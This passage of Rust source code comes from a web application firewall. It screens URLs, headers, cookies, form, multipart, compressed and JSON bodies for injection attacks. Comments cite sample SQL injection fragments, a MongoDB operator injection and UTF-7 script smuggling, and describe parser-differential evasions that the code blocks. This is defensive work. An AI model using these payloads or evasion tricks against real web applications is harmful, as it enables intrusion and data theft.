pub fn inspect_url(config: &WafConfig, raw_path: &str, raw_query: Option<&str>) -> Option<Hit> {
    if config.mode == WafMode::Off {
        return None;
    }
    // A `+` escaped (`%2B`) is one after a decoding too, for an origin that decodes the path again with a form
    // decoder (a servlet's decoded path handed to `URLDecoder`).
    let path = screen(config, raw_path, false, "path").or_else(|| {
        raw_path
            .contains(['+', '%'])
            .then(|| screen(config, raw_path, true, "path"))
            .flatten()
    });
    path.or_else(|| {
        raw_query.and_then(|q| {
            q.split('&')
                .find_map(|pair| screen(config, pair, true, "query"))
                .or_else(|| {
                    repeated_values(q)
                        .iter()
                        .find_map(|joined| screen(config, joined, true, "query"))
                })
        })
    })
}

/// Headers besides cookies and `Referer` that origins read as input, whole: `User-Agent` (written to an access log
/// or analytics table, often by string-built SQL); `X-Forwarded-For` (stored by the same logs and by login audits:
/// the gateway forwards the client's list with the address it saw appended, so its first entry is any text the
/// client chose — the other address headers, `X-Real-IP`, `Forwarded`…, are dropped, [`super::headers`]);
/// `Accept-Language` (a language picked from it names a translation file, `lang/` + value, or a row).
const READ_AS_INPUT: &[&str] = &["user-agent", "x-forwarded-for", "accept-language"];

/// Checks the request headers origins read as input, as ModSecurity's Core Rule Set does: each cookie (name and
/// value, decoded with `+` as space as PHP fills `$_COOKIE` and `$_REQUEST`; cookie-parser decodes them too),
/// those of [`READ_AS_INPUT`] and `Referer` (a Referer's query also pair by pair, as its parsers read it). Other
/// headers
/// carry protocol values an application rarely reads, and are left to the size rule.
pub fn inspect_headers(config: &WafConfig, headers: &[(String, String)]) -> Option<Hit> {
    if config.mode == WafMode::Off {
        return None;
    }
    headers.iter().find_map(|(name, value)| {
        if name.eq_ignore_ascii_case("cookie") {
            value
                .split(';')
                .find_map(|pair| screen(config, pair.trim(), true, "headers"))
        } else if READ_AS_INPUT.iter().any(|n| name.eq_ignore_ascii_case(n)) {
            screen(config, value, false, "headers")
        } else if name.eq_ignore_ascii_case("referer") {
            // Whole, as a log writes it; and its query pair by pair, `+` a space, as analytics that parse the
            // search a visitor came from read it (PHP's `parse_str`, `URLSearchParams`).
            let query = value
                .split_once('?')
                .map(|(_, rest)| rest.split('#').next().unwrap_or(rest));
            screen(config, value, false, "headers").or_else(|| {
                query.and_then(|q| {
                    q.split('&')
                        .find_map(|pair| screen(config, pair, true, "headers"))
                })
            })
        } else {
            None
        }
    })
}

/// The values of each key a query or form repeats, joined with `,` as ASP.NET joins them (`id=1 union/*&id=*/select`
/// is `1 union/*,*/select` to it): a reading of the whole no single pair gives. Keys are compared percent-decoded
/// and case-insensitively (ASP.NET's are), and without a last `[]` or `[n]`: Express's query and form parser (qs)
/// reads `id[0]=a&id[1]=b`, `id[]=a&id[]=b` and `id=a&id[]=b` as one array, in its indices' order, which a string
/// built from it joins with `,` (`` `… ${req.query.id}` ``) — values with indices are joined in that order too when
/// it is another. The values stay encoded, for [`screen`] to decode.
fn repeated_values(text: &str) -> Vec<String> {
    // One pair repeats nothing (the common query): no map, no decoded keys.
    if !text.contains('&') {
        return Vec::new();
    }
    joined_repeats(text.split('&').map(|pair| {
        let (key, value) = pair.split_once('=').unwrap_or((pair, ""));
        (decode(key, true).unwrap_or_else(|| key.to_owned()), value)
    }))
}

/// The values of each key `pairs` (decoded keys, values) repeats, joined as [`repeated_values`] joins them: keys
/// compared case-insensitively and without a last `[]` or `[n]`, values with indices also in their indices' order.
fn joined_repeats<V: AsRef<str>>(pairs: impl Iterator<Item = (String, V)>) -> Vec<String> {
    let mut values: Vec<Vec<(Option<u64>, V)>> = Vec::new();
    let mut index = std::collections::HashMap::new();
    for (key, value) in pairs {
        let mut key = key.to_lowercase();
        let position = array_index(&key).map(|(base, position)| {
            key.truncate(base);
            position
        });
        let at = *index.entry(key).or_insert_with(|| {
            values.push(Vec::new());
            values.len() - 1
        });
        values[at].push((position.flatten(), value));
    }
    let mut joined = Vec::new();
    for mut values in values.into_iter().filter(|values| values.len() > 1) {
        let join = |values: &[(Option<u64>, V)]| {
            values
                .iter()
                .map(|(_, value)| value.as_ref())
                .collect::<Vec<_>>()
                .join(",")
        };
        joined.push(join(&values));
        if values.windows(2).any(|w| w[0].0 > w[1].0) {
            values.sort_by_key(|&(position, _)| position);
            joined.push(join(&values));
        }
    }
    joined
}

/// Where the key's name ends before a last `[]` or `[n]` (qs's array brackets), and `n` when one is given.
fn array_index(key: &str) -> Option<(usize, Option<u64>)> {
    let open = key.strip_suffix(']')?.rfind('[')?;
    let inside = &key[open + 1..key.len() - 1];
    if inside.is_empty() {
        return Some((open, None));
    }
    (inside.len() <= 9 && inside.bytes().all(|b| b.is_ascii_digit()))
        .then(|| (open, inside.parse().ok()))
}

/// Header and declared body size rules.
pub fn inspect_sizes(
    config: &WafConfig,
    header_bytes: usize,
    content_length: Option<u64>,
) -> Option<Hit> {
    if config.mode == WafMode::Off {
        return None;
    }
    if header_bytes > config.max_header_bytes {
        return Some(Hit {
            rule: "size-headers",
            part: "headers",
        });
    }
    if content_length.is_some_and(|n| n > config.max_body_bytes) {
        return Some(Hit {
            rule: "size-body",
            part: "body",
        });
    }
    None
}

/// A request body in a content coding the WAF cannot read back (`waf::inflate::coding`: br, zstd, compress, an
/// unknown token, or codings stacked): the body rules would read its compressed bytes, while origins inflate it
/// before the application reads it — Express's and Koa's body parsers do by default, as do ASP.NET Core's request
/// decompression and Apache's `SetInputFilter DEFLATE` — so a compressed `' union select …` would pass every rule.
/// Refused (`body-encoding`) whatever its type, as a charset this reading cannot read is (`body-charset`): a binary
/// type is no exception, since its body is read (up to its first control byte) for the origins that parse JSON or
/// text whatever the type says (`express.json({ type: '*/*' })`, PHP's `json_decode(file_get_contents(
/// 'php://input'))`). A body in `gzip` or `deflate` is read inflated instead ([`inspect_coded_body`]).
pub fn inspect_coding(config: &WafConfig, content_encoding: Option<&str>) -> Option<Hit> {
    if config.reads_nothing() {
        return None;
    }
    (super::inflate::coding(content_encoding) == super::inflate::Coded::Unreadable)
        .then_some(BODY_ENCODING)
}

/// The rule of a body in a coding the WAF cannot read.
const BODY_ENCODING: Hit = Hit {
    rule: "body-encoding",
    part: "body",
};

/// Checks (a prefix of) a body in `gzip` or `deflate` as the origins that inflate it read it: every reading of it
/// ([`super::inflate::readings`]: gzip's members; deflate zlib-wrapped and raw) inflated up to the inspection cap
/// and checked as an uncoded body of its type is ([`inspect_body`]), and so is the text of gzip's header fields
/// (never inflated, but there for an origin that parses the coded bytes as they are). Refused (`body-encoding`)
/// when no reading decodes (a corrupt or cut-off stream, bytes after it), and when any reading stops at the WAF's
/// own bounds (more blocks than its output pays for, a coded prefix of [`read_bound`] bytes that inflates to less
/// than the cap) even though the other decodes: bytes that are zlib to Node and raw deflate to ASP.NET Core were
/// passed on the zlib reading while the raw one, cut short after a flood of empty blocks, hid an attack. `whole` says `coded` is the whole body, not a prefix of it; an empty body has
/// nothing to read.
///
/// [`read_bound`]: super::inflate::read_bound
pub fn inspect_coded_body(
    config: &WafConfig,
    content_type: Option<&str>,
    coding: super::inflate::Coding,
    coded: &[u8],
    whole: bool,
) -> Option<Hit> {
    if config.reads_nothing() || (whole && coded.is_empty()) {
        return None;
    }
    let readings = super::inflate::readings(coding, coded, whole, config.inspect_body_bytes);
    let hit = readings.iter().find_map(|reading| {
        inspect_body(config, content_type, &reading.header_text)
            .or_else(|| inspect_body(config, content_type, &reading.output))
    });
    // A reading cut short (over its block budget, or out of the prefix short of the cap) is refused even when
    // another reading is sound: the origin that reads the body its way reads on past what was checked.
    let unread = readings.iter().any(|r| r.cut_short) || !readings.iter().any(|r| r.sound);
    hit.or_else(|| unread.then_some(BODY_ENCODING))
}

/// Checks (a prefix of) a body: form fields decoded, JSON keys and string values, each part of a multipart form,
/// any other text as it is ([`screen_content`]).
pub fn inspect_body(config: &WafConfig, content_type: Option<&str>, body: &[u8]) -> Option<Hit> {
    if config.reads_nothing() || body.is_empty() {
        return None;
    }
    let content_type = content_type.unwrap_or("");
    // A body in another charset is decoded by some frameworks before the application reads it: refused whatever
    // its type, as this reading cannot see what they make of it.
    if foreign_charset(&content_type.to_ascii_lowercase()) {
        return Some(Hit {
            rule: "body-charset",
            part: "body",
        });
    }
    let media_type = waf_media_type(content_type);
    if media_type.starts_with("multipart/") {
        let Some(parts) = canonical_parts(content_type, body) else {
            // Any other shape is read whole, as text: parsers disagree on how to split it. Encodings the form is
            // not read through here (a part's transfer encoding or charset, which a parser may decode into an
            // attack) are refused: browsers send neither.
            if foreign_encoding(body) {
                return Some(Hit {
                    rule: "multipart-encoding",
                    part: "body",
                });
            }
            return screen_content(config, "text/plain", body);
        };
        return parts
            .iter()
            .find_map(|part| {
                // A file's content by its type; a field's whole, whatever type it claims. An untyped file (Python's
                // requests sends one) is a field to formidable: it is read as binary only when it starts like a binary
                // format.
                let content_type = match (part.file, part.content_type) {
                    (true, Some(t)) => t.to_ascii_lowercase(),
                    (true, None) if binary_signature(part.content) => {
                        "application/octet-stream".to_owned()
                    }
                    _ => String::new(),
                };
                screen(config, part.headers, false, "body")
                    .or_else(|| screen_content(config, &content_type, part.content))
            })
            // The fields (not the files) a name repeats, joined as ASP.NET's `Request.Form` and qs (multer) join
            // them, as a query's or form's are: `1 union/*` and `*/select …` in two fields named `id`.
            .or_else(|| {
                let fields = parts
                    .iter()
                    .filter(|part| !part.file)
                    .map(|part| (part.name.to_owned(), lenient_utf8(part.content)));
                joined_repeats(fields)
                    .iter()
                    .find_map(|joined| screen_content(config, "", joined.as_bytes()))
            });
    }
    screen_content(config, &media_type, body)
}

/// A `Content-Type`'s media type as the parsers behind a gateway read it: PHP's cuts it at `,` and spaces too
/// (`application/x-www-form-urlencoded,x` is a form to PHP).
fn waf_media_type(content_type: &str) -> String {
    let media_type = crate::body::media_type(content_type);
    media_type
        .split([',', ' ', '\t'])
        .next()
        .unwrap_or("")
        .to_owned()
}

/// Whether a body of this media type is read whole as text (others up to their first control byte).
fn textual(media_type: &str) -> bool {
    media_type.is_empty()
        || media_type.starts_with("text/")
        || media_type.ends_with("json")
        || media_type.ends_with("xml")
        || media_type == "application/x-www-form-urlencoded"
        || media_type == "application/javascript"
        || media_type == "application/graphql"
}

/// Checks content of a media type (lower-case, no parameters; empty when none was given). Textual types (and none)
/// are read whole, bytes that are not UTF-8 included ([`lenient_utf8`]). Other types are read up to their first
/// NUL or other control byte (but tab and line ends): an image, an archive or a protobuf holds one within a few
/// bytes (their bytes spell signatures by chance — every PNG holds a NUL), while text sent under a binary type
/// (for an origin that parses JSON whatever the type says, replacing bytes that are not UTF-8 as Go and Node do) is
/// read to where such a parser would stop too. Text that starts like JSON is also read as JSON, whatever its type
/// (its `\u003c` escapes decoded). Textual content in UTF-16 or UTF-32 is also read decoded ([`wide_text`]).
fn screen_content(config: &WafConfig, media_type: &str, bytes: &[u8]) -> Option<Hit> {
    if !textual(media_type) {
        let end = bytes
            .iter()
            .position(|&b| b < 0x20 && !matches!(b, b'\t' | b'\r' | b'\n'))
            .unwrap_or(bytes.len());
        return screen_text(config, media_type, &lenient_utf8(&bytes[..end]));
    }
    screen_text(config, media_type, &lenient_utf8(bytes))
        .or_else(|| wide_text(bytes).and_then(|text| screen_text(config, media_type, &text)))
}

/// A body in UTF-16 or UTF-32 decoded, as Jackson (Spring's JSON bodies) and XML parsers detect it without a
/// charset: by its byte-order mark, or by the NULs around its first character, which JSON and XML start in ASCII
/// (`{` is `7B 00` in UTF-16LE, `00 00 00 7B` in UTF-32BE). A code unit the prefix cuts is dropped; one that
/// spells no character is U+FFFD.
fn wide_text(bytes: &[u8]) -> Option<String> {
    let (width, big) = match bytes {
        [0, 0, 0xFE, 0xFF, ..] | [0, 0, 0, 1..=255, ..] => (4, true),
        [0xFF, 0xFE, 0, 0, ..] | [1..=255, 0, 0, 0, ..] => (4, false),
        [0xFE, 0xFF, ..] | [0, 1..=255, ..] => (2, true),
        [0xFF, 0xFE, ..] | [1..=255, 0, ..] => (2, false),
        _ => return None,
    };
    let units = bytes.chunks_exact(width).map(|unit| {
        unit.iter().enumerate().fold(0u32, |value, (i, &b)| {
            let shift = 8 * if big { width - 1 - i } else { i };
            value | (u32::from(b) << shift)
        })
    });
    let text: String = if width == 4 {
        units
            .map(|unit| char::from_u32(unit).unwrap_or(char::REPLACEMENT_CHARACTER))
            .collect()
    } else {
        char::decode_utf16(units.map(|unit| unit as u16))
            .map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER))
            .collect()
    };
    Some(text)
}

/// Checks a body's content read as text ([`screen_content`]).
fn screen_text(config: &WafConfig, media_type: &str, text: &str) -> Option<Hit> {
    let form = || {
        text.split('&')
            .find_map(|pair| screen(config, pair, true, "body"))
            .or_else(|| {
                repeated_values(text)
                    .iter()
                    .find_map(|joined| screen(config, joined, true, "body"))
            })
    };
    if media_type == "application/x-www-form-urlencoded" {
        return form();
    }
    // Rack (Rails, Sinatra) parses a POST body without a type as a form, `+` a space: read so too, and as text.
    if media_type.is_empty() {
        if let Some(hit) = form() {
            return Some(hit);
        }
    }
    let declared_json = media_type.ends_with("json");
    let looks_json = text
        .trim_start_matches(['\u{feff}', ' ', '\t', '\r', '\n'])
        .starts_with(['{', '[']);
    if declared_json || looks_json {
        let (strings, between, keys, arrays) = json_strings(text);
        // A key that is a MongoDB query operator (`{"user":{"$ne":null}}`): a driver given the parsed body runs it.
        let operator = config.rules.contains(&RuleSet::Sqli)
            && keys.iter().any(|&(k, string_value)| {
                let key = strings[k].to_ascii_lowercase();
                key.strip_prefix('$').is_some_and(|op| {
                    NOSQL_OPERATORS.contains(&op.as_bytes())
                        // A .NET type discriminator, a string naming no BSON type ([`bson_type_alias`]).
                        && !(op == "type"
                            && string_value
                                .is_some_and(|v| !bson_type_alias(strings[v].as_bytes())))
                })
            });
        let hit = operator
            .then_some(Hit {
                rule: "sqli-nosql",
                part: "body",
            })
            .or_else(|| {
                strings
                    .iter()
                    .map(String::as_str)
                    .chain([between.as_str()])
                    .chain(arrays.iter().map(String::as_str))
                    .find_map(|s| screen(config, s, false, "body"))
            });
        if declared_json || hit.is_some() {
            return hit;
        }
    }
    screen(config, text, false, "body")
}

/// One part of a multipart form in the canonical shape ([`canonical_parts`]).
struct Canonical<'a> {
    headers: &'a str,
    /// The `name` parameter's value.
    name: &'a str,
    /// It names a filename.
    file: bool,
    content_type: Option<&'a str>,
    content: &'a [u8],
}

/// The parts of a multipart form in the shape browsers, curl, Python's requests and .NET send it — the only shape whose
/// file parts are read only to their first control byte (a file's bytes spell signatures by chance: every PNG holds
/// a NUL). Parsers disagree on everything else (a delimiter inside a line or after a bare CR or LF, a preamble, a
/// boundary read as PHP reads it, parameters, transfer encodings and charsets), so any other body gets `None` and is
/// read whole as text. The shape: `boundary` named once in the type, of RFC 2046's characters (no comma or space);
/// the body starts with `--B` CRLF and every `--B` in it is one at a line start followed by CRLF, or the last,
/// `--B--` (a prefix cut at the inspection cap may end anywhere); part headers in CRLF lines, exactly
/// `Content-Disposition: form-data; name="…"` with an optional `; filename="…"` (values quoted without `"`, `\`,
/// CR or LF, or bare of letters, digits, `.`, `_`, `-`; a file's name not empty) and after it an optional
/// `; filename*=utf-8''…` (.NET), and an optional `Content-Type: type/subtype`, without parameters but
/// `; charset=utf-8` (.NET's text fields).
fn canonical_parts<'a>(content_type: &str, body: &'a [u8]) -> Option<Vec<Canonical<'a>>> {
    let lower = content_type.to_ascii_lowercase();
    if lower.matches("boundary").count() != 1 {
        return None;
    }
    // The value straight after `=` (PHP keeps blanks around it, others trim them), quoted with RFC 2046's
    // characters, or unquoted with those that are also token characters (Werkzeug ends an unquoted one at `=`).
    let (_, params) = content_type.split_once(';')?;
    let value = params.split(';').find_map(|param| {
        let (name, value) = param.split_once('=')?;
        (name.trim() == "boundary").then_some(value)
    })?;
    let (boundary, allowed) = match value.strip_prefix('"').and_then(|b| b.strip_suffix('"')) {
        Some(quoted) => (quoted, "'()+_-./:=?"),
        None => (value, "'+_-."),
    };
    let bchar = |c: char| c.is_ascii_alphanumeric() || allowed.contains(c);
    if boundary.is_empty() || boundary.len() > 70 || !boundary.chars().all(bchar) {
        return None;
    }
    let delimiter = format!("--{boundary}");
    let delimiter = delimiter.as_bytes();
    if !body.starts_with(delimiter)
        || body.get(delimiter.len()..delimiter.len() + 2) != Some(b"\r\n")
    {
        return None;
    }
    let mut parts = Vec::new();
    let mut at = 0;
    loop {
        // `at` is a delimiter followed by CRLF; the part runs to the next one.
        let start = at + delimiter.len() + 2;
        let next = memchr::memmem::find(&body[start..], delimiter).map(|i| start + i);
        let end = match next {
            Some(next) if body[..next].ends_with(b"\r\n") && next >= start + 2 => next - 2,
            Some(_) => return None,
            None => body.len(),
        };
        let part = &body[start..end];
        if next.is_none() && memchr::memmem::find(part, b"\r\n\r\n").is_none() {
            // A prefix cut inside the last part's headers (or a body that ends there): no content follows them for
            // any parser, and their text is read as a part's headers are.
            let headers = match std::str::from_utf8(part) {
                Ok(text) => text,
                // Cut inside a character (a UTF-8 filename): read up to it.
                Err(e) if e.error_len().is_none() => {
                    std::str::from_utf8(&part[..e.valid_up_to()]).ok()?
                }
                Err(_) => return None,
            };
            parts.push(Canonical {
                headers,
                name: "",
                file: false,
                content_type: None,
                content: &[],
            });
            return Some(parts);
        }
        parts.push(canonical_part(part, next.is_none())?);
        let Some(next) = next else {
            return Some(parts); // a prefix cut inside the last part
        };
        let after = &body[next + delimiter.len()..];
        if after.starts_with(b"--") {
            return matches!(&after[2..], b"" | b"\r\n" | b"\r").then_some(parts);
        }
        // Nothing, a CR or a `-` after it: a prefix cut inside the delimiter's line end or closing `--`.
        if !(after.starts_with(b"\r\n") || matches!(after, b"" | b"\r" | b"-")) {
            return None;
        }
        if after.len() < 2 {
            return Some(parts);
        }
        at = next;
    }
}

/// One part in the canonical shape ([`canonical_parts`]): headers in CRLF lines, then an empty line.
fn canonical_part(part: &[u8], cut: bool) -> Option<Canonical<'_>> {
    let split = memchr::memmem::find(part, b"\r\n\r\n")?;
    let headers = std::str::from_utf8(&part[..split]).ok()?;
    let (mut disposition, mut content_type, mut length, mut encoding) = (None, None, None, None);
    for line in headers.split("\r\n") {
        if line.contains(['\r', '\n']) {
            return None;
        }
        let (name, value) = line.split_once(": ")?;
        let slot = match name.to_ascii_lowercase().as_str() {
            "content-disposition" => &mut disposition,
            "content-type" => &mut content_type,
            // OkHttp and aiohttp give each part its length; Apache HttpClient an identity transfer encoding.
            "content-length" => &mut length,
            "content-transfer-encoding" => &mut encoding,
            _ => return None,
        };
        if slot.replace(value).is_some() {
            return None;
        }
    }
    // A length is the part's own (a parser trusting it would otherwise read the next part into this one); a part
    // cut at the inspection cap holds at most that many bytes.
    let content = &part[split + 4..];
    let own_length = |declared: &str| {
        declared == content.len().to_string()
            || cut
                && declared.len() <= 19
                && declared.bytes().all(|b| b.is_ascii_digit())
                && declared.parse::<usize>().is_ok_and(|n| n >= content.len())
    };
    if length.is_some_and(|declared| !own_length(declared)) {
        return None;
    }
    if encoding.is_some_and(|e: &str| {
        !["binary", "7bit", "8bit"]
            .iter()
            .any(|i| e.eq_ignore_ascii_case(i))
    }) {
        return None;
    }
    let rest = disposition?.strip_prefix("form-data; name=")?;
    let (field, rest) = parameter_value(rest)?;
    let file = match rest.strip_prefix("; filename=") {
        Some(after) => {
            let (name, rest) = parameter_value(after)?;
            // An RFC 2047 word (`=?utf-8?B??=`) is decoded by some parsers (ASP.NET), to a name that may be empty.
            if name.contains("=?") {
                return None;
            }
            // .NET's MultipartFormDataContent names the file again in RFC 5987's form, which some parsers prefer:
            // beside a filename that is not empty, it is a file to every parser whichever name it reads.
            if !rest.is_empty() {
                let star = rest.strip_prefix("; filename*=")?;
                let encoded = star
                    .get(..7)
                    .filter(|charset| charset.eq_ignore_ascii_case("utf-8''"))
                    .map(|_| &star[7..])?;
                let attr_char = |c: char| c.is_ascii_alphanumeric() || "!#$&+-.^_`|~%".contains(c);
                if name.is_empty() || encoded.is_empty() || !encoded.chars().all(attr_char) {
                    return None;
                }
            }
            // A browser sends a file input left empty as `filename=""` and no content: a field to every parser.
            if name.is_empty() && !content.is_empty() {
                return None;
            }
            !name.is_empty()
        }
        None if rest.is_empty() => false,
        None => return None,
    };
    let media_type = |t: &str| {
        let (kind, sub) = t.split_once('/')?;
        let token = |s: &str| {
            !s.is_empty()
                && s.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "!#$&^_.+-".contains(c))
        };
        (token(kind) && token(sub)).then_some(())
    };
    // .NET labels its text fields `text/plain; charset=utf-8`: the charset this reading reads; any other parameter,
    // or another charset, which a parser may decode by, leaves the shape.
    let content_type = match content_type {
        Some(t) => {
            let (t, parameter) = t.split_once("; ").unwrap_or((t, ""));
            if !(parameter.is_empty() || parameter.eq_ignore_ascii_case("charset=utf-8")) {
                return None;
            }
            media_type(t)?;
            Some(t)
        }
        None => None,
    };
    Some(Canonical {
        headers,
        name: field,
        file,
        content_type,
        content,
    })
}

/// A `Content-Disposition` parameter's value and the text after it: quoted (nothing inside that parsers read
/// differently: no `"`, `\\`, CR or LF), or bare, of letters, digits, `.`, `_` and `-` only, as .NET sends names
/// (a bare `'`, `;` or blank is read differently by PHP, which takes `'` as a quote, and by the others).
fn parameter_value(text: &str) -> Option<(&str, &str)> {
    if let Some(quoted) = text.strip_prefix('"') {
        let len = quoted.find('"')?;
        let value = &quoted[..len];
        return (!value.contains(['\\', '\r', '\n'])).then_some((value, &quoted[len + 1..]));
    }
    let len = text
        .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')))
        .unwrap_or(text.len());
    (len > 0).then(|| text.split_at(len))
}

/// Whether content starts with the signature of a common binary format (images, PDF, archives, audio and video,
/// fonts, wasm).
fn binary_signature(content: &[u8]) -> bool {
    const SIGNATURES: &[&[u8]] = &[
        b"\x89PNG",
        b"\xff\xd8\xff",
        b"GIF8",
        b"%PDF",
        b"PK\x03\x04",
        b"\x1f\x8b",
        b"RIFF",
        b"7z\xbc\xaf",
        b"Rar!",
        b"OggS",
        b"ID3",
        b"\x1aE\xdf\xa3",
        b"wOFF",
        b"wOF2",
        b"\0asm",
        b"BM",
        b"II*\0",
        b"MM\0*",
        // Executables and bytecode: ELF, PE, Mach-O (both orders; also Java classes), wasm above, DEX.
        b"\x7fELF",
        b"MZ",
        b"\xcf\xfa\xed\xfe",
        b"\xfe\xed\xfa\xcf",
        b"\xca\xfe\xba\xbe",
        b"dex\n",
        // Databases and data files: SQLite, HDF5, NumPy, Parquet, Avro, pcap, OLE (old Office files, MSI).
        b"SQLite format 3\0",
        b"\x89HDF",
        b"\x93NUMPY",
        b"PAR1",
        b"Obj\x01",
        b"\xd4\xc3\xb2\xa1",
        b"\xa1\xb2\xc3\xd4",
        b"\xd0\xcf\x11\xe0",
        // Compression and archives: bzip2, xz, zstd, cab, ar (deb).
        b"BZh",
        b"\xfd7zXZ\0",
        b"\x28\xb5\x2f\xfd",
        b"MSCF",
        b"!<arch>\n",
        // Audio: FLAC, an MP3 frame without ID3.
        b"fLaC",
        b"\xff\xfb",
        b"\xff\xf3",
        b"\xff\xf2",
        // Photoshop, icons.
        b"8BPS",
        b"\0\0\x01\0",
    ];
    SIGNATURES.iter().any(|s| content.starts_with(s))
        // MP4, MOV, HEIC, AVIF
        || content.get(4..8) == Some(b"ftyp")
        // tar
        || content.get(257..262) == Some(b"ustar")
}

/// Whether a multipart body not in the canonical shape names a transfer encoding for its parts, or a charset
/// [`foreign_charset`] refuses, which parsers may decode (Go quoted-printable, undici base64, busboy the charset)
/// into text this reading never sees.
fn foreign_encoding(body: &[u8]) -> bool {
    let text = String::from_utf8_lossy(body).to_ascii_lowercase();
    let value_at = |at: usize| {
        text[at..]
            .trim_start_matches([' ', '\t', '"'])
            .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_'))
            .next()
            .unwrap_or("")
    };
    let identity = |coding: &str| matches!(coding, "binary" | "7bit" | "8bit");
    // A blank before the colon is still the header to undici and aiohttp, which trim header names.
    text.match_indices("content-transfer-encoding")
        .any(|(at, m)| {
            let rest = text[at + m.len()..].trim_start_matches([' ', '\t']);
            rest.strip_prefix(':')
                .is_some_and(|value| !identity(value_at(text.len() - value.len())))
        })
        || foreign_charset(&text)
}

/// Whether lower-case `text` (a body, or a request's `Content-Type`) names a `charset` parameter other than UTF-8,
/// ASCII or an ASCII-compatible single-byte charset (Latin-1, ISO 8859, Windows-125x), anywhere (PHP splits
/// parameters loosely): one a parser decodes by into text this reading never sees — Starlette and Django decode a
/// form's fields by the request's charset, so `charset=utf-7` turns `+ADw-script+AD4-` into `<script>`, and EBCDIC
/// hides everything. The name is read as Python's readers read it: an RFC 2231 form (`charset*=`, `charset*0=`,
/// which no client sends) is refused whatever it says, and any blank or control character around `=` is skipped.
fn foreign_charset(text: &str) -> bool {
    let blank = |c: char| c.is_whitespace() || c.is_control();
    text.match_indices("charset").any(|(at, m)| {
        let after = &text[at + m.len()..];
        let name_rest = after.trim_start_matches(|c: char| c == '*' || c.is_ascii_digit());
        let extended = name_rest.len() != after.len();
        let Some(value) = name_rest.trim_start_matches(blank).strip_prefix('=') else {
            return false; // the word, not a parameter
        };
        if extended {
            return true;
        }
        // Judged as decoders judge it: Python's normalize_encoding and iconv-lite drop everything but letters and
        // digits (`!utf-7`, `",utf-7"` are utf-7 to them), so the value's letters and digits must spell an
        // accepted name — read to the next `;` (or line end) both plainly and with a quoted string's `;` kept.
        // Each reading walks left to right once and stops as soon as it has more letters and digits than an
        // accepted name holds (recounting the quotes before each `;` made 64 KiB of `;` take seconds).
        let line_end = |c: char| c == '\r' || c == '\n';
        let plain = CharsetName::read(value.chars().take_while(|&c| c != ';' && !line_end(c)));
        let quoted = match value.trim_start_matches(blank).strip_prefix('"') {
            Some(inside) => {
                let mut escaped = false;
                let mut closed = false;
                CharsetName::read(inside.chars().take_while(|&c| {
                    if !closed {
                        closed = c == '"' && !escaped;
                        escaped = c == '\\' && !escaped;
                        return true;
                    }
                    c != ';' && !line_end(c)
                }))
            }
            None => CharsetName::default(),
        };
        // And as Python's parameter splitter reads it (email's `_parseparam`, which Django and python-multipart
        // use): a `;` ends the value only where the `"` before it, less the `\"`, are even in number.
        let (mut quotes, mut previous) = (0usize, '\0');
        let python = CharsetName::read(value.chars().take_while(|&c| {
            if line_end(c) || (c == ';' && quotes % 2 == 0) {
                return false;
            }
            if c == '"' && previous != '\\' {
                quotes += 1;
            }
            previous = c;
            true
        }));
        !(plain.accepted() && quoted.accepted() && python.accepted())
    })
}

/// The letters and digits of a charset value, lower-case, as far as an accepted name could hold them
/// ([`accepted_charset`]): a value with more is none of them, and is not read further.
#[derive(Default)]
struct CharsetName {
    name: String,
    too_long: bool,
}

impl CharsetName {
    /// The longest accepted name's letters and digits (`ansix341968`).
    const MAX: usize = 11;

    fn read(chars: impl Iterator<Item = char>) -> Self {
        let mut read = Self::default();
        for c in chars.filter(char::is_ascii_alphanumeric) {
            if read.name.len() == Self::MAX {
                read.too_long = true;
                break;
            }
            read.name.push(c.to_ascii_lowercase());
        }
        read
    }

    fn accepted(&self) -> bool {
        !self.too_long && accepted_charset(&self.name)
    }
}

/// Whether a charset value, by its letters and digits alone, names UTF-8, ASCII or an ASCII-compatible single-byte
/// charset (Latin-1, ISO 8859, Windows-125x, KOI8), or nothing.
fn accepted_charset(value: &str) -> bool {
    let name: String = value
        .chars()
        .filter(char::is_ascii_alphanumeric)
        .map(|c| c.to_ascii_lowercase())
        .collect();
    let numbered = |prefix: &str, range: std::ops::RangeInclusive<u32>| {
        name.strip_prefix(prefix).is_some_and(|n| {
            !n.is_empty()
                && !n.starts_with('0')
                && n.bytes().all(|b| b.is_ascii_digit())
                && n.parse::<u32>().is_ok_and(|n| range.contains(&n))
        })
    };
    matches!(
        name.as_str(),
        "" | "utf8" | "usascii" | "ascii" | "ansix341968" | "latin1" | "l1" | "koi8r" | "koi8u"
    ) || numbered("iso8859", 1..=16)
        || numbered("windows", 1250..=1258)
        || numbered("cp", 1250..=1258)
}

/// The string tokens of a JSON text — keys and values, each with its escapes decoded (`\u003c` is `<`, a lone
/// surrogate U+FFFD) — and the text between them. A tokenizer, not a parser: whatever an origin's parser makes of
/// the body, every string it could read is here, also for duplicate keys (a first-wins parser reads the first),
/// nesting past a parser's depth limit, a prefix cut at the inspection cap, or text a strict parser refuses (whose
/// bare words are in what lies between the strings). Third, the indices of the strings that are keys (a `:` follows
/// them after blanks), each with its value's when that is a string. Fourth, each run of two or more strings that
/// are array elements side by side, joined as JavaScript makes a string of the array: with `,`, and with the
/// numbers, `true`/`false` and `null`s (an empty element) between them, a nested array's brackets dropped
/// ([`element_separator`]).
#[allow(clippy::type_complexity)]
fn json_strings(
    text: &str,
) -> (
    Vec<String>,
    String,
    Vec<(usize, Option<usize>)>,
    Vec<String>,
) {
    let bytes = text.as_bytes();
    let mut strings: Vec<String> = Vec::new();
    let mut keys = Vec::new();
    let mut between = Vec::with_capacity(bytes.len() / 4);
    let mut arrays = Vec::new();
    // The strings of the current run of elements, each with the separator read before it (none before the first),
    // and where in `between` the last of them ended.
    let mut run: Vec<(usize, String)> = Vec::new();
    let mut run_end: Option<usize> = None;
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] != b'"' {
            between.push(bytes[i]);
            i += 1;
            continue;
        }
        // Only elements' separators since the last element's string: this one follows it in the same array.
        let separator = run_end.and_then(|end| element_separator(&between[end..]));
        between.push(b' ');
        i += 1;
        let mut s: Vec<u8> = Vec::new();
        while i < bytes.len() && bytes[i] != b'"' {
            if bytes[i] != b'\\' {
                s.push(bytes[i]);
                i += 1;
                continue;
            }
            let Some(c) = json_escape(bytes, &mut i) else {
                break;
            };
